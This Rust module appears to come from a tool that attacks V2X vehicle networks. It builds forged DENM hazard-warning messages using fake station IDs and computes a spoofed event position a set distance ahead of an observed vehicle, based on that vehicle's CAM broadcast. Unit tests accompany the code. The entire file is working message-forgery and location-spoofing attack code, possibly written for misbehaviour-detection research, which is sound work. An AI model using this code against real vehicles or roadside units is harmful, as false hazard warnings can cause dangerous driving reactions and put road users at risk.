/// Forged DENM template
///
/// Every forged message shares the same field values; only the sub-cause code
/// and the event position change between attacks.
use crate::geo;
use crate::types::{encoding, Cam, Denm, EventType, Situation, StationId};

pub const SEMANTIC_SUB_CAUSE: u8 = 1;
pub const NON_SEMANTIC_SUB_CAUSE: u8 = 3;

pub const FORGED_STATION_ID: StationId = 12130;
pub const FORGED_ORIGINATING_STATION_ID: StationId = 12131;

/// Default event position (RSU location), 1e-7 degrees
pub const DEFAULT_LATITUDE: i32 = 446529860;
pub const DEFAULT_LONGITUDE: i32 = 109299810;

/// Build a forged DENM with the given sub-cause code and position
pub fn forge_denm(sub_cause_code: u8, latitude: i32, longitude: i32) -> Denm {
    Denm {
        protocol_version: 2,
        message_id: 1,
        station_id: FORGED_STATION_ID,
        originating_station_id: FORGED_ORIGINATING_STATION_ID,
        sequence_number: 1,
        detection_time: 100000000,
        reference_time: 0,
        latitude,
        longitude,
        semi_major_confidence: 282,
        semi_minor_confidence: 278,
        semi_major_orientation: 616,
        altitude_value: 9650,
        altitude_confidence: "alt-020-00".to_string(),
        validity_duration: 1,
        station_type: 15,
        situation: Situation {
            information_quality: 4,
            event_type: EventType {
                cause_code: 1,
                sub_cause_code,
            },
        },
    }
}

/// Position `offset_m` metres ahead of the observed vehicle along its heading,
/// in 1e-7 degree units
pub fn spoofed_position(cam: &Cam, offset_m: f64) -> (i32, i32) {
    let (lat, lon) = geo::project(
        cam.lat_degrees(),
        cam.lon_degrees(),
        offset_m * 1e-3,
        cam.heading_value as f64,
    );
    (
        encoding::scale_coordinate(lat),
        encoding::scale_coordinate(lon),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_template_constants() {
        let denm = forge_denm(SEMANTIC_SUB_CAUSE, DEFAULT_LATITUDE, DEFAULT_LONGITUDE);
        assert_eq!(denm.station_id, 12130);
        assert_eq!(denm.originating_station_id, 12131);
        assert_eq!(denm.validity_duration, 1);
        assert_eq!(denm.situation.event_type.cause_code, 1);
        assert_eq!(denm.sub_cause_code(), 1);
        assert_eq!(denm.latitude, DEFAULT_LATITUDE);
    }

    #[test]
    fn test_only_sub_cause_and_position_vary() {
        let a = forge_denm(1, DEFAULT_LATITUDE, DEFAULT_LONGITUDE);
        let mut b = forge_denm(3, 1, 2);
        b.situation.event_type.sub_cause_code = 1;
        b.latitude = DEFAULT_LATITUDE;
        b.longitude = DEFAULT_LONGITUDE;
        assert_eq!(a, b);
    }

    #[test]
    fn test_spoofed_position_heads_east() {
        let cam = Cam {
            station_id: 4316,
            latitude: 440000000,
            longitude: 100000000,
            heading_value: 90,
            speed_value: 0,
        };
        let (lat, lon) = spoofed_position(&cam, 65.0);
        assert!(lon > cam.longitude);
        // 65 m east is about 8.1e-4 degrees of longitude at 44N
        assert!((lon - cam.longitude - 8120).abs() < 50, "lon offset {}", lon - cam.longitude);
        assert!((lat - cam.latitude).abs() < 10);
    }
}
